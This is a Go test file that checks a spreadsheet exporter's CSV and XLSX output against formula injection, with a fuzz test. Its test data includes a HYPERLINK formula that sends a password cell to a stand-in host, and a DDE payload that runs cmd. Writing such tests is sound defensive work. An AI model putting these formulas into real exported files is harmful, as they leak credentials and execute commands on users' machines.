package spreadsheet_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/countycloud/countycloud/core/spreadsheet"
)

// dangerous holds a value for every way a cell can start a formula, and
// values that look close but are not.
var dangerous = [][]string{
	{"单位", "姓名", "登录名", "初始密码"},
	{`=HYPERLINK("http://x/?p="&D2,"点击")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"},
	{"\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"},
	{"'=already quoted", "'plain", "''", "'"},
	{"县委办公室", "张三", "zhangsan", "Ab3-xyz=9"},
	{"", " =not at the start", "a=b", "1-2"},
}

func TestNoCellOfAWrittenCSVStartsAFormulaAndEveryValueReadsBack(t *testing.T) {
	out, err := spreadsheet.CSV(dangerous)
	if err != nil {
		t.Fatal(err)
	}
	rest, ok := bytes.CutPrefix(out, []byte("\xEF\xBB\xBF"))
	if !ok {
		t.Fatal("no BOM")
	}
	r := csv.NewReader(bytes.NewReader(rest))
	r.FieldsPerRecord = -1
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != len(dangerous) {
		t.Fatalf("%d records, want %d", len(records), len(dangerous))
	}
	if records[1][0] != `'=HYPERLINK("http://x/?p="&D2,"点击")` || records[4][0] != "县委办公室" || records[3][1] != "''plain" {
		t.Errorf("cells as written: %q", records)
	}
	for i, rec := range records {
		for j, cell := range rec {
			if spreadsheet.FormulaLike(cell) {
				t.Errorf("row %d column %d starts a formula: %q", i+1, j+1, cell)
			}
		}
		if got := strings.Join(spreadsheet.FromCSV(rec), "|"); got != strings.Join(dangerous[i], "|") {
			t.Errorf("row %d reads back as %q, want %q", i+1, got, strings.Join(dangerous[i], "|"))
		}
	}
}

func TestNoCellOfAWrittenXLSXIsAFormulaAndEveryValueIsExact(t *testing.T) {
	out, err := spreadsheet.XLSX(spreadsheet.Sheet{Name: "初始密码", Rows: dangerous}, spreadsheet.Sheet{Name: "说明", Rows: dangerous[1:3]})
	if err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(out), int64(len(out)))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
			continue
		}
		rc, _ := zf.Open()
		xml, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(xml, []byte("<f>")) || bytes.Contains(xml, []byte("<f ")) {
			t.Errorf("%s holds a formula", zf.Name)
		}
	}
	f, err := excelize.OpenReader(bytes.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); len(got) != 2 || got[0] != "初始密码" || got[1] != "说明" {
		t.Errorf("sheets: %v", got)
	}
	for i, row := range dangerous {
		for j, want := range row {
			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if formula, err := f.GetCellFormula("初始密码", cell); err != nil || formula != "" {
				t.Errorf("%s: formula %q (%v)", cell, formula, err)
			}
			got, err := f.GetCellValue("初始密码", cell)
			if err != nil || got != want {
				t.Errorf("%s reads %q (%v), want %q", cell, got, err, want)
			}
			if want == "" {
				continue
			}
			if typ, _ := f.GetCellType("初始密码", cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
				t.Errorf("%s is of type %v, not a string", cell, typ)
			}
			if quoted := quotePrefixed(t, f, "初始密码", cell); quoted != spreadsheet.FormulaLike(want) {
				t.Errorf("%s (%q): quote prefix %v", cell, want, quoted)
			}
		}
	}
}

// quotePrefixed says whether cell has the quote-prefix style and the
// text format, as a value typed with a leading apostrophe has.
func quotePrefixed(t *testing.T, f *excelize.File, sheet, cell string) bool {
	t.Helper()
	id, err := f.GetCellStyle(sheet, cell)
	if err != nil {
		t.Fatal(err)
	}
	style, err := f.GetStyle(id)
	if err != nil {
		t.Fatal(err)
	}
	xf := f.Styles.CellXfs.Xf[id]
	return xf.QuotePrefix != nil && *xf.QuotePrefix && style.NumFmt == 49
}

func FuzzCSVCell(f *testing.F) {
	for _, row := range dangerous {
		for _, v := range row {
			f.Add(v)
		}
	}
	f.Fuzz(func(t *testing.T, v string) {
		cell := spreadsheet.CSVCell(v)
		if spreadsheet.FormulaLike(cell) {
			t.Fatalf("%q is written as %q", v, cell)
		}
		if back := spreadsheet.FromCSVCell(cell); back != v {
			t.Fatalf("%q is written as %q and reads back as %q", v, cell, back)
		}
		if strings.ContainsRune(v, '\r') {
			// encoding/csv reads \r\n in a quoted field as \n.
			return
		}
		out, err := spreadsheet.CSV([][]string{{v, "x"}})
		if err != nil {
			t.Fatal(err)
		}
		rec, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out, []byte("\xEF\xBB\xBF")))).Read()
		if err != nil {
			t.Fatalf("%q: %v", out, err)
		}
		if got := spreadsheet.FromCSV(rec); len(got) != 2 || got[0] != v {
			t.Fatalf("%q reads back as %q", v, got)
		}
	})
}
